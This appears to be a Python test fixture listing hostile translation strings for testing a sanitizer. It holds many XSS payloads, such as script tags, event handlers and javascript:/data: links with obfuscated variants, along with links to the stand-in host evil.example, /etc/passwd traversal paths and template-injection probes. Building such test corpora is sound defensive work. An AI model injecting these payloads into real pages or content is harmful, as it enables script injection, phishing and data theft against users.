"""Hostile translations, by kind: what an attacker might write into a msgstr."""

# ruff: noqa: E501

from __future__ import annotations

_TAGS = (
    "<script>alert(1)</script>|<ScRiPt src=//evil.example/x></sCrIpT>|<script\n>alert(1)</script\n>"
    "|<script/x>alert(1)</script>|<scr<script>ipt>alert(1)</scr</script>ipt>|<script"
    "|<script src=https://evil.example/x.js|</script><script>alert(1)//|<<script>alert(1)//<</script>"
    "|<iframe src=https://evil.example></iframe>|<iframe srcdoc='&lt;script&gt;alert(1)'></iframe>"
    "|<frameset onload=alert(1)>|<object data=//evil.example></object>|<embed src=//evil.example>"
    "|<applet code=x></applet>|<svg onload=alert(1)>|<svg/onload=alert(1)>|<svg><script>alert(1)"
    "|<svg><a xlink:href=javascript:alert(1)>x</a></svg>|<math><mtext><img src=x onerror=alert(1)>"
    "|<math href=javascript:alert(1)>x</math>|<style>*{display:none}</style>|<style>@import'//evil'"
    "|<link rel=stylesheet href=//evil.example>|<meta http-equiv=refresh content=0;url=//evil.example>"
    "|<base href=//evil.example/>|<form action=//evil.example><input name=password></form>"
    "|<button formaction=javascript:alert(1)>x</button>|<input autofocus onfocus=alert(1)>"
    "|<template><img src=x></template>|<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"
    "|<textarea>|<title>|<select>|<xmp>|<plaintext>|<noembed>|<listing>|<marquee onstart=alert(1)>"
    "|<video src=//evil.example><source onerror=alert(1)>|<audio src=x onerror=alert(1)>"
    "|<details open ontoggle=alert(1)>x</details>|<dialog open>x</dialog>|<table><tr><td>"
    "|<x onclick=alert(1)>y</x>|<a href=javascript:alert(1)>x</a>|<a>x</a>|<b>x</b>|<b>|<i|<u>"
    "|<font color=red>x</font>|<center>x</center>|<span style=position:fixed>x</span>|<div>|<p>"
    "|<main>|<body onload=alert(1)>|<html lang=xx>|<head>|<slot name=x>|<portal src=//evil.example>"
    "|<img src=//evil.example/pixel.gif>|<image href=//evil.example>|<picture><source srcset=//evil>"
    "|<isindex action=//evil.example>|<keygen autofocus>|<h1>x</h1>|<li>x|<br onclick=alert(1)>"
    "|<hr>|<wbr>|<sup id=fnref:x>|<bdo dir=rtl>x</bdo>|<bdi>x</bdi>|<custom-element>x</custom-element>"
)
_CLOSERS = (
    "</div>|</p>|</main>|</section></main></body>|</span>|</li></ul>|</td></tr></table>|</h2>|</a>"
    "|</html>|</blockquote>|</style>|</title>|</body><body>|</article>|</dd></dl>|</b><b>"
)
_COMMENTS = (
    "<!-- x -->|<!--|<!-- x|--><script>alert(1)</script>|<!--><img src=x onerror=alert(1)>-->"
    "|<!--[if IE]><script>alert(1)</script><![endif]-->|<!DOCTYPE html>|<![CDATA[x]]>|<?php x ?>"
    "|<!-->|<!--->|<!-- i18n:skip -->|<!doctype x [<!entity y 'z'>]>"
)
_HANDLERS = (
    "<b onclick=alert(1)>x</b>|<b ONCLICK=alert(1)>x</b>|<b OnMouseOver='alert(1)'>x</b>"
    '|<b onclick="alert(1)">x</b>|<b onclick = alert(1)>x</b>|<b\tonclick=alert(1)>x</b>'
    "|<b\nonclick=alert(1)>x</b>|<b/onclick=alert(1)>x</b>|<b/ onclick=alert(1)>x</b>"
    "|<b x='>' onclick=alert(1)>y</b>|<b onclick=`alert(1)`>x</b>|<b on&#99;lick=alert(1)>x</b>"
    "|<img src=x onerror=alert(1)//|<img src=x:x onerror\t=\talert(1)>|<img id=x tabindex=1 onfocus=x>"
    '|<img """><script>alert(1)</script>">|<a onpointerenter=alert(1)>x</a>'
    "|<svg\tid=\"@\"\tonload=alert(1)>|<img id='<' src=x onerror=alert(1)>|<script id='<'>alert(1)"
    '|<svg/id="@" onload=alert(1)>|<b id="x">y</b>|<style id="<">*{display:none}'
)
_LINKS = (
    "[x](javascript:alert(1))|[x](JaVaScRiPt:alert(1))|[x]( javascript:alert(1))"
    "|[x](<javascript:alert(1)>)|[x](java\tscript:alert(1))|[x](java\nscript:alert(1))"
    "|[x](javascript&#58;alert(1))|[x](javascript&colon;alert(1))|[x](&#x6A;avascript:alert(1))"
    "|[x](&#106;avascript:alert(1))|[x](jav&#x09;ascript:alert(1))|[x](jav&Tab;ascript:alert(1))"
    "|[x](java&NewLine;script:alert(1))|[x](javascript%3Aalert(1))|[x](%6Aavascript:alert(1))"
    "|[x](ｊavascript:alert(1))|[x](javaſcript:alert(1))|[x](vbscript:msgbox(1))"
    "|[x](data:text/html,<script>alert(1)</script>)|[x](data:text/html;base64,PHNjcmlwdD4=)"
    "|[x](DATA:text/html,x)|[x](view-source:x)|[x](blob:x)|[x](file:///etc/passwd)|[x](ms-its:x)"
    "|[x](about:blank)|[x](tel:+99312)|[x](mailto:evil@evil.example)|<javascript:alert(1)>"
    "|<data:text/html,x>|<vbscript:x>|<https://evil.example>|<evil@evil.example>|<ftp://evil.example>"
    "|<mailto:evil@evil.example>|![x](javascript:alert(1))|![x](data:image/svg+xml,<svg/onload=x>)"
    "|![x](https://evil.example/pixel.gif)|![x](//evil.example/p.gif)|[![x](//evil.example)](//evil)"
    "|[x](https://evil.example)|[x](HTTPS://EVIL.EXAMPLE)|[x](//evil.example)|[x](/\\evil.example)"
    "|[x](\\\\evil.example)|[x](https:evil.example)|[x](///evil.example)|[x](https://exаmple.org/)"
    "|[x](https://example.org@evil.example/)|[x](https://example.org.evil.example/)"
    "|[x](https://example.org/#evil)|[x](https://example.org/?evil)|[x](https://example.org/./)"
    "|[x](https://xn--exmple-4nf.org/)|[x](https://example。org/)|[x](https://ex\u200bample.org/)"
    "|[x](https://example.org%2eevil.example)|[x](http://example.org/)|[x](#main)|[x]()|[x](.)"
    "|[x](../../admin/)|[x]({filename}plain.md)|[x]({filename}nowhere.md)|[x]({static}/etc/passwd)"
    "|[x]({attach}x.md)|[x](|filename|plain.md)|[x]({filename}../../../etc/passwd)|[x]({tag}x)"
    "|[x]({category}x)|[x]({index})|[x]({author}x)|[x](\\{filename\\}plain.md)|[x][ref]|[ref]|[x][REF]"
    "|![x][ref]|[x]\n(javascript:alert(1))|*[x](javascript:alert(1))*|[*x*](javascript:alert(1))"
    "|[x](javascript:alert(1) 'title')|[a[b]](javascript:alert(1))|[x](<//evil.example> \"t\")"
    "|\\\\[x](javascript:alert(1))|[x\\]](javascript:alert(1))|[`x`](javascript:alert(1))"
    "|https://evil.example/login|www.evil.example|evil@evil.example|//evil.example/x"
)
_LISTS = (
    "*x*{: onclick=alert(1) }|*x*{ onclick=alert(1) }|**x**{: style='position:fixed' }|*x*{: #main }"
    "|*x*{: .pair }|`x`{: onclick=alert(1) }|*x*{: lang=xx }|*x*{: title=evil }|*x*{:onclick=alert(1)}"
    "|x {: onclick=alert(1) }|x\n{: onclick=alert(1) }|x\n{: style='display:none' }|x\n{: #main }"
    "|x\n{: .pair hidden }|x {#main}|x { onclick=alert(1) }|x\n{ onclick='alert(1)' }|x {.pair}"
    "|x &#123;: onclick=alert(1) }|*x*{: ONCLICK=alert(1) }|*x*{: href=javascript:alert(1) }"
    "|x \\\\{: onclick=alert(1) }|*x*{: title='x\" onclick=alert(1)' }|x\n{: dir=rtl }|x ## {: #y }"
)
_INJECTIONS = (
    "[^1]|[^note]|[^1]: x|*[HTML]: x|[ref]: https://evil.example|x\n\n[ref]: https://evil.example"
    "|x\n\n*[Good]: evil|x\n\n[^n]: evil|[TOC]|[TOC] | [TOC]|///Footnotes Go Here///|![](x)"
    "|<div markdown='1'>x</div>|<b markdown=span>x</b>|<p markdown=1>|x\n\n<div markdown=1>\n\n# y"
    "|{{ config }}|{% include 'x' %}|{# x #}|{filename}|href='{filename}nowhere.md'|{static}x|{}"
    '|%(name)s|%(evil)s|%(x)99999999s|href=\\\\"{filename}nowhere.md|src=\\\\"\\\\{static\\\\}no.png'
    "|klzzwxh:0000|wzxhzdk:0|`evil`|`` <script> ``|```\nevil\n```|&lt;script&gt;alert(1)"
)
_BLOCKS = (
    "# x|###### x|> x|- x|* x|+ x|7. x|3) x|```x|~~~x|!!! note|| a | b ||x\n\ny|x\n\n# y|x\n\n- y"
    "|x\n\n    y|x\n\n<script>alert(1)</script>|   # x|x\n\n[TOC]|x\n \ny"
)
_CHARACTERS = (
    "\u202ex|\u202dx|\u202ax|\u202bx|\u202cx|\u2066x|\u2067x|\u2068x|\u2069x|\u2028x|\u2029x|\ufeffx"
    "|\U000e0041x|\ufffax|\u206fx|\ue000x|\uffffx|\ufdd0x|&#x202e;x|&#X202E;x|&#8238;x|&#08238;x"
    "|&\\\\#x202e;x|&\\\\#8238;x|&#x2;wzxhzdk:0&#x3;|&#2;|&#x1b;[31m|&#0;|&#x9b;x|&amp;#x202e;x|&#x2067;x"
    "|&#xfeff;x|&#xE0041;x|![\u202ex](x)|*\u202ex*|**&#x202e;x**|&#x2028;x|&#xFFFF;x"
)
_QUOTES = (
    'x" onmouseover="alert(1)|x" onmouseover=alert(1) y="|x&quot; onclick=&quot;alert(1)'
    '|x&#34; onclick=&#34;alert(1)|0;url=//evil.example" http-equiv="refresh|x" autofocus hidden y'
    '|x\\\\" onclick=\\\\"alert(1)|x" style="position:fixed|"><script>alert(1)</script>|x&amp;quot; onclick=y'
    "|'><script>alert(1)</script>|' onclick='alert(1)|x}\" onclick=alert(1)|x' }{: onclick=alert(1)"
)

_SEPARATED = {
    "tag": _TAGS,
    "closer": _CLOSERS,
    "comment": _COMMENTS,
    "handler": _HANDLERS,
    "link": _LINKS,
    "list": _LISTS,
    "injection": _INJECTIONS,
    "block": _BLOCKS,
    "character": _CHARACTERS,
    "quote": _QUOTES,
}


def _split(text: str) -> list[str]:
    """The strings of a table; the bars of Pelican's old links and of tables stay whole."""
    whole = text.replace("|filename|", "\1filename\1").replace("| a | b |", "\1 a \1 b \1")
    return [one.replace("\1", "|").replace("\\\\", "\\") for one in whole.split("|")]


ATTACKS = [(kind, one) for kind, table in _SEPARATED.items() for one in _split(table)]
